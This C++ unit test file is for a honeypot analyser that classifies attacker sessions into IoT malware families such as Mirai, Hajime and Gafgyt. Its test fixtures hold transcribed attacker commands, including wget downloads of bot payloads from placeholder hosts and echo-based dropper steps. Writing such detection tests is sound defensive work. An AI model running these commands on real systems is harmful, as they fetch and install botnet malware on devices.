// The families analysis: every signature of data/families.toml on a session transcribed from
// ../shared/research/iot-malware.md, the first-match order (Hajime before the Mirai loader),
// bad TOML, and unknown sessions ranked by opening through the real pipeline.
#include <gtest/gtest.h>

#include "core/data_directory.h"
#include "analyze/chunk_builder.h"
#include "analyze/intel/family_table.h"
#include "analyze/report/intel_report.h"
#include "analyze_test_support.h"

namespace busytrap::analyze {
namespace {

intel::FamilyTable shipped() {
  intel::FamilyTable table;
  std::string error;
  EXPECT_TRUE(table.load(core::data_directory() + "/families.toml", error)) << error;
  return table;
}

std::string classify(const intel::FamilyTable& table, std::vector<std::string_view> lines) {
  intel::SessionCommands session;
  session.lines = lines;
  for (std::string_view line : lines) {
    const std::size_t at = line.find("busybox ");
    if (at != std::string_view::npos) {
      std::string_view applet = line.substr(at + 8);
      session.busybox_applets.push_back(applet.substr(0, applet.find(' ')));
    }
  }
  const auto family = table.classify(session);
  // The features path (what the Analysis uses: per line and per applet) decides the same.
  EXPECT_TRUE(table.has_applet_features());
  std::uint64_t features = 0, applets = 0;
  for (std::string_view line : lines) features |= table.line_features(line);
  for (std::string_view applet : session.busybox_applets) applets |= table.applet_features(applet);
  EXPECT_EQ(table.classify_features(features, applets), family);
  return family ? table.families()[*family].name : "unknown";
}

TEST(IntelFamilies, EverySignatureOnATranscribedSession) {
  const intel::FamilyTable t = shipped();
  EXPECT_EQ(classify(t, {"enable", "system", "shell", "sh", "/bin/busybox MIRAI"}), "mirai-scanner");
  EXPECT_EQ(classify(t, {"/bin/busybox ECCHI", "cat /proc/mounts", "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69' > /tmp/.nippon",
                         "rm /tmp/.sh"}),
            "mirai-loader");
  EXPECT_EQ(classify(t, {"/bin/busybox VDOSS"}), "mirai-loader");
  EXPECT_EQ(classify(t, {"cd /var; cat .s || cp /bin/echo .s", "/bin/busybox ECCHI", "./.s>.i; ./.i"}), "hajime");
  EXPECT_EQ(classify(t, {"/bin/busybox QSDWQ", "cat .s || cp /bin/echo .s",
                         "dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s"}),
            "hajime-s-loader");
  EXPECT_EQ(classify(t, {"/bin/busybox <RANDOM>", "cat .s || cp /bin/echo .s"}), "hajime-s-loader");  // folded
  EXPECT_EQ(classify(t, {"/bin/busybox SATORI"}), "satori");
  EXPECT_EQ(classify(t, {"cd /tmp; wget http://h/batkek/x86"}), "satori");
  EXPECT_EQ(classify(t, {"/bin/busybox MASUTA"}), "masuta");
  EXPECT_EQ(classify(t, {"/bin/busybox OWARI"}), "owari");
  EXPECT_EQ(classify(t, {"/bin/busybox SORA"}), "sora");
  EXPECT_EQ(classify(t, {"/bin/busybox WICKED"}), "wicked");
  EXPECT_EQ(classify(t, {"/bin/busybox JOSHO"}), "josho");
  EXPECT_EQ(classify(t, {"/bin/busybox BAT"}), "bat-loader");
  EXPECT_EQ(classify(t, {"echo -e '\\147\\141\\171\\146\\147\\164'"}), "gafgyt");
  EXPECT_EQ(classify(t, {"cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://1.2.3.4/bins.sh"}), "gafgyt");
  EXPECT_EQ(classify(t, {"uname -a", "/bin/busybox ls"}), "unknown");
  EXPECT_EQ(classify(t, {"cat .s"}), "unknown");  // the .s loader needs its random token
}

TEST(IntelFamilies, BadTablesAreErrors) {
  intel::FamilyTable table;
  std::string error;
  EXPECT_FALSE(table.parse("[[family]]\nname = \"x\"\n", error));  // no markers
  EXPECT_NE(error.find("x:"), std::string::npos);
  EXPECT_FALSE(table.parse("[[family]]\ntokens = [\"A\"]\n", error));  // no name
  EXPECT_FALSE(table.parse("[[family]]\nname = \"x\"\ntokens = [1]\n", error));
  EXPECT_FALSE(table.parse("[[family\n", error));
  EXPECT_NE(error.find("line 1"), std::string::npos);
  EXPECT_FALSE(table.parse("", error));
  EXPECT_FALSE(table.load("/nonexistent/families.toml", error));
}

TEST(IntelFamilies, PipelineCountsFamiliesAndRanksUnknownOpenings) {
  testing::TempDir dir;
  using testing::cowrie_command;
  const std::string path = dir.file(
      "f.json", cowrie_command("a", "2024-01-01T00:00:01Z", R"("enable")") +
                    cowrie_command("a", "2024-01-01T00:00:02Z", R"("/bin/busybox MIRAI")") +
                    cowrie_command("b", "2024-01-01T00:00:03Z", R"("uname -a; cat /proc/cpuinfo; ls")") +
                    cowrie_command("c", "2024-01-01T00:00:04Z", R"("uname -a; cat /proc/cpuinfo; ls; id")") +
                    cowrie_command("d", "2024-01-01T00:00:05Z", R"("/bin/busybox BAT")"));
  AnalysisOptions options;
  options.intel.families = true;
  options.families = std::make_shared<intel::FamilyTable>(shipped());
  Analysis analysis(options);
  PipelineReport pipeline;
  std::string error;
  ASSERT_TRUE(AnalyzePipeline(options).run({path}, analysis, pipeline, error)) << error;
  const IntelReport report = build_intel_report(analysis.intel(), intel::CredentialTable{}, 0, options.families.get());
  ASSERT_EQ(report.tables.size(), 2u);
  EXPECT_EQ(testing::as_map(report.tables[0]),
            (std::map<std::string, std::uint64_t>{{"mirai-scanner", 1}, {"bat-loader", 1}}));
  EXPECT_EQ(testing::as_map(report.tables[1]),
            (std::map<std::string, std::uint64_t>{{"uname \u21d2 cat \u21d2 ls", 2}}));
  EXPECT_EQ(report.tables[0].total, 4u);
}

TEST(IntelFamilies, WorkersSendEachNewRecordsFeaturesOnceAndAgainForAnotherKeyCache) {
  AnalysisOptions options;
  options.intel.families = true;
  options.families = std::make_shared<intel::FamilyTable>(shipped());
  const intel::FamilyTable& table = *options.families;
  intel::WorkerIntel worker;
  ChunkKeyCache keys(0);
  ChunkResult result;
  {
    ChunkBuilder builder(options, result, &worker, &keys);
    builder.command("h", 1, "/bin/busybox ECCHI", "");
    builder.command("h", 2, "cd /tmp; cp /bin/echo .s", "");
    builder.command("m", 3, "/bin/busybox ECCHI", "");  // a repeated record: nothing new
    builder.command("", 4, "cat .s", "");
  }
  const std::uint64_t ecchi = table.applet_features("ECCHI");
  EXPECT_NE(ecchi, 0u);
  ASSERT_EQ(result.new_record_pieces.size(), 3u);
  ASSERT_EQ(result.new_record_intel.size(), 3u);
  EXPECT_TRUE(result.new_record_indicators.empty());  // the indicators analysis is off
  EXPECT_EQ(result.new_record_intel[0].family_applets, ecchi);
  EXPECT_EQ(result.new_record_intel[0].family_lines, table.line_features("/bin/busybox ECCHI"));
  EXPECT_EQ(result.new_record_intel[1].family_applets, 0u);
  EXPECT_EQ(result.new_record_intel[1].family_lines,
            table.line_features("cd /tmp") | table.line_features("cp /bin/echo .s"));
  EXPECT_EQ(result.new_record_intel[2].family_lines, table.line_features("cat .s"));
  const std::uint64_t hajime = result.new_record_intel[0].family_lines | result.new_record_intel[1].family_lines;
  EXPECT_EQ(table.families()[*table.classify_features(hajime, ecchi)].name, "hajime");
  EXPECT_EQ(table.families()[*table.classify_features(result.new_record_intel[0].family_lines, ecchi)].name,
            "mirai-loader");
  // Another key cache: its record 0 is another text, with its own features (the line and
  // program features kept for the first cache's ids are dropped).
  ChunkKeyCache other(1);
  ChunkResult next;
  {
    ChunkBuilder builder(options, next, &worker, &other);
    builder.command("x", 5, "/bin/busybox MIRAI", "");
  }
  ASSERT_EQ(next.new_record_intel.size(), 1u);
  EXPECT_EQ(next.new_record_intel[0].family_applets, table.applet_features("MIRAI"));
  EXPECT_EQ(worker.families.record_features(0, other, table).applets, table.applet_features("MIRAI"));
}

// A table with more families than the features' bits (kRandomAppletBit) cannot be classified
// from the workers' ORed features: finalisation rebuilds each session's command lines from its
// records and classifies those.
TEST(IntelFamilies, ATableTooLargeForFeaturesIsClassifiedFromTheCommandLines) {
  std::string toml;
  for (unsigned i = 0; i <= intel::FamilyTable::kRandomAppletBit; ++i) {
    toml += "[[family]]\nname = \"f" + std::to_string(i) + "\"\ntokens = [\"TOK" + std::to_string(i) + "\"]\n";
  }
  auto table = std::make_shared<intel::FamilyTable>();
  std::string error;
  ASSERT_TRUE(table->parse(toml, error)) << error;
  ASSERT_FALSE(table->has_applet_features());
  testing::TempDir dir;
  using testing::cowrie_command;
  const std::string path =
      dir.file("big.json", cowrie_command("a", "2024-01-01T00:00:01Z", R"("enable; /bin/busybox TOK5")") +
                               cowrie_command("b", "2024-01-01T00:00:02Z", R"("/bin/busybox TOK62")") +
                               cowrie_command("a", "2024-01-01T00:00:03Z", R"("sh")") +
                               cowrie_command("c", "2024-01-01T00:00:04Z", R"("uname -a")"));
  AnalysisOptions options;
  options.intel.families = true;
  options.families = table;
  Analysis analysis(options);
  PipelineReport pipeline;
  ASSERT_TRUE(AnalyzePipeline(options).run({path}, analysis, pipeline, error)) << error;
  const IntelReport report = build_intel_report(analysis.intel(), intel::CredentialTable{}, 0, table.get());
  EXPECT_EQ(testing::as_map(report.tables[0]), (std::map<std::string, std::uint64_t>{{"f5", 1}, {"f62", 1}}));
  EXPECT_EQ(report.tables[0].total, 3u);
}

TEST(IntelFamilies, ASessionsFeaturesAddUpAcrossChunks) {
  testing::TempDir dir;
  using testing::cowrie_command;
  const std::string path = dir.file(
      "h.json", cowrie_command("h", "2024-01-01T00:00:01Z", R"("/bin/busybox ECCHI")") +
                    cowrie_command("m", "2024-01-01T00:00:02Z", R"("/bin/busybox ECCHI")") +
                    cowrie_command("h", "2024-01-01T00:00:03Z", R"("cd /tmp; cp /bin/echo .s")"));
  for (const std::size_t chunk : {std::size_t{8} << 20, std::size_t{100}}) {
    AnalysisOptions options;
    options.intel.families = true;
    options.families = std::make_shared<intel::FamilyTable>(shipped());
    options.chunk_bytes = chunk;
    Analysis analysis(options);
    PipelineReport pipeline;
    std::string error;
    ASSERT_TRUE(AnalyzePipeline(options).run({path}, analysis, pipeline, error)) << error;
    const IntelReport report =
        build_intel_report(analysis.intel(), intel::CredentialTable{}, 0, options.families.get());
    EXPECT_EQ(testing::as_map(report.tables[0]),
              (std::map<std::string, std::uint64_t>{{"hajime", 1}, {"mirai-loader", 1}}))
        << chunk;
  }
}

}  // namespace
}  // namespace busytrap::analyze
